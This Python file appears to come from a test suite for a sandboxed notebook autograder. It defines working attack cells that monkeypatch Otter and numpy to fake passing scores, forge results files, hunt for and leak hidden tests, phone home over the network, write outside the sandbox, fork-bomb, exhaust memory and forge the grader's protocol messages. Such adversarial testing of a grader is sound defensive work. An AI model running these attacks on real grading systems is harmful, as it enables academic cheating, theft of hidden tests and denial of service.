"""Attacks on the grader: each is a cell a student could submit, where it goes, and the
score its honest code deserves.

Placeholders filled in per run (see :func:`build`): ``HSA_MARKER`` (a unique word that
every process and file an attack creates carries, so a leftover can be found), ``HSA_PORT``
and ``HSA_HOST`` (a listener on the grading host that counts connections) and
``HSA_ESCAPES`` (host paths an attack tries to write; none may exist afterwards).
"""

import json
import pathlib
import re
import zipfile
from dataclasses import dataclass

import nbformat

from hsa.project import DEFAULT, ROOT

STUDENT, MASTER, AUTOGRADER_ZIP = DEFAULT.student, DEFAULT.master, DEFAULT.zip
FULL_MARKS = 15


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    source: str  # the cell (or, for position "file", the whole file's text)
    position: str = "last"  # "first" (before every cell), "last" (after every cell), "file"
    base: str = "student"  # "student": the stub; "constant": CONSTANT_FUNCTIONS; "master"

    @property
    def honest(self):
        """What the notebook's code earns without the attack cell (measured in the tests)."""
        return FULL_MARKS if self.base == "master" else 0


# Six functions that return arrays of the right shape filled with constants: a student
# who knows the shapes but not the maths. They replace the stub's function cells; on
# real inputs they earn 0.
CONSTANT_FUNCTIONS = {
    "join_weights": "def join_weights(w_hh, w_hx):\n"
    "    return np.zeros((w_hh.shape[0], w_hh.shape[1] + w_hx.shape[1]))\n",
    "join_state_and_input": "def join_state_and_input(h_t_prev, x_t):\n"
    "    return np.zeros((h_t_prev.shape[0] + x_t.shape[0], h_t_prev.shape[1]))\n",
    "formula_1": "def formula_1(w_hh, w_hx, h_t_prev, x_t):\n"
    "    return np.zeros((w_hh.shape[0], h_t_prev.shape[1]))\n",
    "formula_2": "def formula_2(w_hh, w_hx, h_t_prev, x_t):\n"
    "    return np.zeros((w_hh.shape[0], h_t_prev.shape[1]))\n",
    "sigmoid": "def sigmoid(z):\n    return np.full(np.shape(z), 0.5)[()]\n",
    "hidden_state": "def hidden_state(w_hh, w_hx, h_t_prev, x_t, b_h):\n"
    "    return np.full((w_hh.shape[0], h_t_prev.shape[1]), 0.5)\n",
}

# Memory past a submission's cap (2 GiB by default), each by a path the kernel charges
# differently; each stops at MEMORY_BOUND bytes, so that where nothing caps it (otter run,
# an ordinary user's rlimits) it takes 3 GiB and ends, not the machine.
MEMORY_BOUND = 3 << 30
_HOLD_ANONYMOUS = '''
import os, time
def hold_anonymous(total, each=512 << 20):
    """Children that each touch ``each`` bytes of anonymous memory and hold it 2 s."""
    children = []
    for _ in range(total // each):
        pid = os.fork()
        if pid == 0:
            block = bytearray(each)
            for i in range(0, each, 4096):
                block[i] = 1
            time.sleep(2)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
'''
MEMORY_ANONYMOUS = _HOLD_ANONYMOUS + f"hold_anonymous({MEMORY_BOUND})\n"
_FILL = f'''
def fill(folder, limit={MEMORY_BOUND}, each=8 << 20):
    """8 MiB files (under the 16 MiB file-size limit) in ``folder`` up to ``limit`` bytes
    or until it is full; how many bytes."""
    chunk, written = b"x" * (1 << 20), 0
    try:
        while written < limit:
            with open(f"{{folder}}/fill-{{written}}", "wb") as f:
                for _ in range(each >> 20):
                    f.write(chunk)
                    written += len(chunk)
    except OSError as full:
        print(f"{{folder}} full after {{written >> 20}} MiB: {{full.strerror}}", flush=True)
    return written
'''
# a tmpfs of the sandbox's (32 MiB each): filled, then past the cap with anonymous memory
MEMORY_TMP = _HOLD_ANONYMOUS + _FILL + f"hold_anonymous({MEMORY_BOUND} - fill('/tmp'))\n"
MEMORY_SHM = _HOLD_ANONYMOUS + _FILL + f"hold_anonymous({MEMORY_BOUND} - fill('/dev/shm'))\n"
MEMORY_MEMFD = f'''
import os
chunk, held = b"x" * (1 << 20), []
while len(held) * (8 << 20) < {MEMORY_BOUND}:
    held.append(os.memfd_create(f"fill-{{len(held)}}"))
    for _ in range(8):
        os.write(held[-1], chunk)
'''
MEMORY_NESTED_TMPFS = _FILL + '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
uid, gid = os.getuid(), os.getgid()
# a user and mount namespace of its own, where it may mount a tmpfs as large as it likes
if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
    raise OSError(ctypes.get_errno(), "unshare: " + os.strerror(ctypes.get_errno()))
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
    with open(f"/proc/self/{name}", "w") as f:
        f.write(text)
if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=8g") != 0:
    raise OSError(ctypes.get_errno(), "mount: " + os.strerror(ctypes.get_errno()))
fill("/tmp")
'''
MEMORY_SOCKETS = f'''
import resource, socket
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
pairs, chunk, queued = [], b"x" * 65536, 0
while queued < {MEMORY_BOUND}:  # each pair's buffers filled: memory in the kernel only
    a, b = socket.socketpair()
    for side in (a, b):
        side.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        side.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    a.setblocking(False)
    pairs.append((a, b))
    try:
        while True:
            queued += a.send(chunk)
    except BlockingIOError:
        pass
'''
# Every core kept busy by 13 children, each in a session of its own (so, without a cgroup,
# an autogroup of its own: 13 shares of the CPU against a neighbour's one), kept alive
# while the graded functions answer slowly, within their budget. Not in ATTACKS: it is
# graded beside another submission (tests/test_attacks.py), and alone, where budgets count
# wall time, it may make itself time out.
BUSY_NEIGHBOUR = '''
import os, time
for _ in range(13):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
def _slowly(function):
    def slow(*args):
        time.sleep(0.5)
        return function(*args)
    return slow
for _name in ("join_weights", "join_state_and_input", "formula_1", "formula_2", "sigmoid",
              "hidden_state"):
    globals()[_name] = _slowly(globals()[_name])
'''

# A correct submission whose hidden_state takes 0.6 s of CPU a call (a slow loop): alone,
# well within the 5 s a call may take; graded beside BUSY_NEIGHBOUR, it must not time out.
SLOW_BUT_CORRECT = '''
import time
_correct = hidden_state
def hidden_state(*args):
    started = time.process_time()
    while time.process_time() - started < 0.6:
        pass
    return _correct(*args)
'''

MEMORY_ATTACKS = ("memory-anonymous", "memory-memfd", "memory-tmp", "memory-shm",
                  "memory-nested-tmpfs", "memory-socket-buffers")

OTTER_PATCH_RUN = '''
# Otter runs its test files in this kernel: make every test case pass.
from otter.test_files.abstract_test import TestCaseResult
from otter.test_files.exception_test import ExceptionTestFile
def run(self, env):
    self.test_case_results = [TestCaseResult(test_case=tc, message="passed", passed=True)
                              for tc in self.test_cases]
ExceptionTestFile.run = run
'''

OTTER_PATCH_RESULTS = '''
# The results are pickled in this kernel: mark every collected test case as passed.
import pickle
_dump = pickle.dump
def dump(results, file, *args, **kwargs):
    for test_file in getattr(results, "results", {}).values():
        for case in test_file.test_case_results:
            case.passed = True
    return _dump(results, file, *args, **kwargs)
pickle.dump = dump
'''

NUMPY_PATCH = '''
import numpy as np
# The checks compare with numpy in this kernel: make every comparison succeed.
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
np.max = lambda *a, **k: 0.0             # "largest error" is always 0
np.testing.assert_allclose = lambda *a, **k: None
'''

NDARRAY_PATCH = '''
import numpy as np
# ndarray's own methods cannot be set (TypeError), so patch its type dictionary through gc.
import ctypes, gc
slots = gc.get_referents(np.ndarray.__dict__)[0]
for name in ("__sub__", "__rsub__"):
    slots[name] = lambda self, other: np.zeros(np.broadcast_shapes(np.shape(self), np.shape(other)))
slots["max"] = lambda self, *a, **k: 0.0
ctypes.pythonapi.PyType_Modified(ctypes.py_object(np.ndarray))
print("ndarray patched:", (np.ones(2) - np.zeros(2)).tolist())
'''

RNG_PATCH = '''
import numpy as np
# The hidden inputs come from np.random.default_rng: make them all zeros, then the
# constant functions are "right".
class Zeros:
    def __init__(self, *args, **kwargs): pass
    def choice(self, values, size=None, replace=True): return np.asarray(values)[:size]
    def integers(self, low, high=None, size=None):
        return low if size is None else np.zeros(size, int)
    def standard_normal(self, size=None): return np.zeros(size) if size else 0.0
    def uniform(self, low=0.0, high=1.0, size=None): return 1.0 if size is None else np.ones(size)
np.random.default_rng = Zeros
'''

FORGE_RESULTS = '''
# Leave forged results where an autograder might pick them up.
import json, os, pickle
forged = {"score": 15, "tests": [{"name": "all", "score": 15, "max_score": 15}],
          "forged_by": "HSA_MARKER"}
for folder in (".", "..", "../results", "/autograder/results", "/tmp", os.path.expanduser("~")):
    for name, data in (("results.json", json.dumps(forged).encode()),
                       ("results.pkl", pickle.dumps(forged))):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "wb") as f:
                f.write(data)
            print("wrote", os.path.join(folder, name))
        except OSError as error:
            print("could not write", folder, error)
'''

READ_HIDDEN = '''
# Look for the hidden tests everywhere; print what is found and copy it out.
import os, time, zipfile
found, start = [], time.time()
for top in (os.path.abspath(".."), "/autograder", "/tmp", "/work", "/root", "/home", "/srv", "/"):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", ".git", "node_modules")]
        for name in files:
            if name == "hidden_checks.py" or name.endswith("-autograder.zip") or \\
                    (os.path.basename(folder) == "tests" and name.endswith(".py")):
                found.append(os.path.join(folder, name))
        if time.time() - start > 3 or len(found) > 20:
            break
leak = ""
for path in found:
    try:
        if path.endswith(".zip"):
            with zipfile.ZipFile(path) as z:
                leak += "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".py"))
        else:
            leak += open(path).read()
    except Exception as error:
        print("could not read", path, error)
print("found:", found)
print(leak[:20000])
for path in HSA_ESCAPES:
    try:
        open(path + "-leak", "w").write(leak)
    except OSError:
        pass
'''

NETWORK = '''
# Phone home: to a listener on the grading host and to the internet.
import socket
for host, port in (("127.0.0.1", HSA_PORT), ("HSA_HOST", HSA_PORT), ("1.1.1.1", 53)):
    try:
        socket.create_connection((host, port), timeout=1).sendall(b"HSA_MARKER")
        print("connected to", host, port)
    except OSError as error:
        print("no connection to", host, port, error)
try:
    print("resolved", socket.gethostbyname("example.com"))
except OSError as error:
    print("no DNS", error)
'''

WRITE_OUTSIDE = '''
# Write outside the scratch directory: the host's /tmp, the project, the home folder.
import os
for path in HSA_ESCAPES:
    try:
        with open(path, "w") as f:
            f.write("HSA_MARKER")
        print("wrote", path)
    except OSError as error:
        print("could not write", path, error)
'''

ORPHANS = '''
# Leave processes behind: a subprocess, a double-forked daemon, a plain fork.
import os, subprocess, sys
def mark():
    open("/proc/self/comm", "w").write("HSA_MARKER")
sleeper = [sys.executable, "-c", "import time; time.sleep(30)", "HSA_MARKER"]
subprocess.Popen(sleeper, start_new_session=True)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, sleeper)
    os._exit(0)
os.waitpid(pid, 0)
if os.fork() == 0:
    mark()
    import time
    time.sleep(30)
    os._exit(0)
print("started three processes")
'''

FORK_BOMB = '''
# A bounded fork bomb: at most 200 children, each gone after 10 s.
import os, time
children = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as error:
        print("fork refused after", children, "children:", error)
        break
    if pid == 0:
        open("/proc/self/comm", "w").write("HSA_MARKER")
        time.sleep(10)
        os._exit(0)
    children += 1
print("forked", children)
'''

PROTOCOL_FLOOD = '''
# From a thread, for 2 s, flood the grader's channel with malformed messages, hoping
# some land between cells or calls: a ready with a list, a start for cell 999, an
# error that is a string, args_after that is not a list.
import os, sys, threading, time
lines = [b'{"event":"ready","defined":[["sigmoid","function"]]}\\n',
         b'{"event":"start","cell":999}\\n', b'{"event":"done","cell":999,"error":"x"}\\n',
         b'{"event":"result","error":"boom","args_after":"zz"}\\n', b'[1, 2]\\n']
def flood(fd, until=time.time() + 2):
    while time.time() < until:
        for line in lines:
            try:
                os.write(fd, line)
            except OSError:
                return
fd = next((int(a) for a in sys.argv[1:] if a.isdigit()), None)
if fd is not None:
    threading.Thread(target=flood, args=(fd,), daemon=True).start()
'''

NOT_A_NOTEBOOK = "This is my homework.\nimport otter  # not JSON, not a notebook\n"

PROTOCOL_FORGERY = '''
# Write forged messages straight to the grader's channel (the fd number is argv[1]).
import os, sys
for arg in sys.argv[1:]:
    if arg.isdigit():
        for line in (b'{"event":"ready","defined":{}}\\n',
                     b'{"event":"result","value":{"t":"plain","v":1}}\\n' * 50):
            try:
                os.write(int(arg), line)
            except OSError as error:
                print("cannot write fd", arg, error)
'''

PROTOCOL_DEEP_NESTING = '''
# One message nested 100 000 deep: json's parser gives up with RecursionError, which
# must be this cell's protocol violation, not a crash of the grader.
import os, sys
for arg in sys.argv[1:]:
    if arg.isdigit():
        os.write(int(arg), b'{"event":' + b"[" * 100000 + b"]" * 100000 + b"}\\n")
'''

ATTACKS = [
    Attack("otter-patch-run", "monkeypatch otter's ExceptionTestFile.run to pass everything",
           OTTER_PATCH_RUN, "first"),
    Attack("otter-patch-results", "patch pickle.dump to mark Otter's collected results passed",
           OTTER_PATCH_RESULTS, "last"),
    Attack("numpy-early", "constant functions; np.max/np.allclose/... patched in the first cell",
           NUMPY_PATCH, "first", base="constant"),
    Attack("numpy-late", "constant functions; np.max/np.allclose/... patched in the last cell",
           NUMPY_PATCH, "last", base="constant"),
    Attack("ndarray-methods", "constant functions; ndarray.__sub__/max patched via gc (first)",
           NDARRAY_PATCH, "first", base="constant"),
    Attack("rng-patch", "constant functions; np.random.default_rng gives zeros (first)",
           RNG_PATCH, "first", base="constant"),
    Attack("forge-results", "write results.json/.pkl in cwd, .., /autograder/results, /tmp",
           FORGE_RESULTS, "last"),
    Attack("read-hidden", "search the filesystem for hidden_checks.py, tests/*.py, the zip",
           READ_HIDDEN, "last"),
    Attack("network", "connect to the grading host and the internet; resolve a name",
           NETWORK, "last"),
    Attack("write-outside", "write files in the host's /tmp, /var/tmp, the project, /root",
           WRITE_OUTSIDE, "last"),
    Attack("orphans", "subprocess, setsid double-fork daemon, plain fork; all sleep 30 s",
           ORPHANS, "last"),
    Attack("fork-bomb", "fork up to 200 children that sleep 10 s (bounded)", FORK_BOMB, "last"),
    Attack("sys-exit-first", "sys.exit() in the first cell", "import sys\nsys.exit(0)\n", "first"),
    Attack("sys-exit-master", "sys.exit() after a correct solution",
           "import sys\nsys.exit(0)\n", "last", base="master"),
    Attack("os-exit", "os._exit(0) in the first cell", "import os\nos._exit(0)\n", "first"),
    Attack("os-exit-master", "os._exit(0) after a correct solution",
           "import os\nos._exit(0)\n", "last", base="master"),
    Attack("keyboard-interrupt", "raise KeyboardInterrupt in the first cell",
           "raise KeyboardInterrupt\n", "first"),
    Attack("infinite-loop", "while True: pass in the first cell", "while True:\n    pass\n",
           "first"),
    Attack("infinite-loop-master", "while True: pass after a correct solution",
           "while True:\n    pass\n", "last", base="master"),
    Attack("allocate-4gib", "allocate and touch 4 GiB",
           "import numpy as np\nhog = np.ones(4 << 27)  # 4 GiB of float64\n", "last"),
    Attack("memory-anonymous", "6 children of 512 MiB of anonymous memory (3 GiB)",
           MEMORY_ANONYMOUS, "last", base="master"),
    Attack("memory-memfd", "3 GiB in memfd files (not in any address space)", MEMORY_MEMFD,
           "last", base="master"),
    Attack("memory-tmp", "fill /tmp (a tmpfs), then anonymous memory to 3 GiB", MEMORY_TMP,
           "last", base="master"),
    Attack("memory-shm", "fill /dev/shm (a tmpfs), then anonymous memory to 3 GiB", MEMORY_SHM,
           "last", base="master"),
    Attack("memory-nested-tmpfs", "3 GiB in a tmpfs of its own, in a nested user and mount "
           "namespace", MEMORY_NESTED_TMPFS, "last", base="master"),
    Attack("memory-socket-buffers", "3 GiB queued in unix socket pairs' buffers",
           MEMORY_SOCKETS, "last", base="master"),
    Attack("output-50mb", "print 50 MB", "line = 'x' * 999\nfor _ in range(50_000):\n"
           "    print(line)\n", "last"),
    Attack("protocol-forgery", "write forged ready/result messages on the grader's fd",
           PROTOCOL_FORGERY, "last"),
    Attack("protocol-flood", "a thread floods the grader's channel with malformed messages",
           PROTOCOL_FLOOD, "first", base="master"),
    Attack("protocol-deep-nesting", "one message nested 100 000 deep on the grader's fd",
           PROTOCOL_DEEP_NESTING, "last", base="master"),
    Attack("not-a-notebook", "a text file named .ipynb", NOT_A_NOTEBOOK, "file"),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}


def escape_paths(marker):
    """Host paths the write attacks aim at; after grading none of them may exist."""
    return [f"/tmp/hsa-escape-{marker}", f"/var/tmp/hsa-escape-{marker}",
            str(ROOT / f"hsa-escape-{marker}"), f"/root/hsa-escape-{marker}"]


def forged_paths():
    """Host paths where the forge attack may leave results files (holding its marker)."""
    folders = ["/tmp", "/autograder/results", str(ROOT), str(ROOT.parent),
               str(pathlib.Path.home())]
    return [f"{folder}/results.{ext}" for folder in folders for ext in ("json", "pkl")]


def fill(text, marker, port, host):
    return (text.replace("HSA_MARKER", marker).replace("HSA_PORT", str(port))
            .replace("HSA_HOST", host).replace("HSA_ESCAPES", json.dumps(escape_paths(marker))))


def build(attack, path, marker, port=9, host="127.0.0.1"):
    """Write ``attack``'s submission to ``path`` and return the path."""
    path = pathlib.Path(path)
    source = fill(attack.source, marker, port, host)
    if attack.position == "file":
        path.write_text(source)
        return path
    notebook = nbformat.read(MASTER if attack.base == "master" else STUDENT, as_version=4)
    if attack.base == "constant":
        for cell in notebook.cells:
            name = re.match(r"def (\w+)\(", cell.source) if cell.cell_type == "code" else None
            if name and name.group(1) in CONSTANT_FUNCTIONS:
                cell.source = CONSTANT_FUNCTIONS[name.group(1)]
    cell = nbformat.v4.new_code_cell(source)
    if attack.position == "first":
        notebook.cells.insert(0, cell)
    else:
        notebook.cells.append(cell)
    for index, each in enumerate(notebook.cells):
        each.id = f"attack-{index}"
    nbformat.write(notebook, path)
    return path


def hidden_secrets(zip_path=AUTOGRADER_ZIP):
    """Lines of the hidden checks that no feedback should ever contain (code, not hints)."""
    secrets = set()
    with zipfile.ZipFile(zip_path) as archive:
        for name in archive.namelist():
            if name == "files/hidden_checks.py" or name.startswith("tests/"):
                text = archive.read(name).decode()
                secrets |= {m.strip() for m in re.findall(r"^\s*(def \w+\(.*\):)$", text, re.M)}
                secrets |= set(re.findall(r"hidden_checks\.check_\w+\(\w+", text))
    public = STUDENT.read_text() + (ROOT / "assignments" / "public_checks.py").read_text()
    return sorted(s for s in secrets if s not in public)
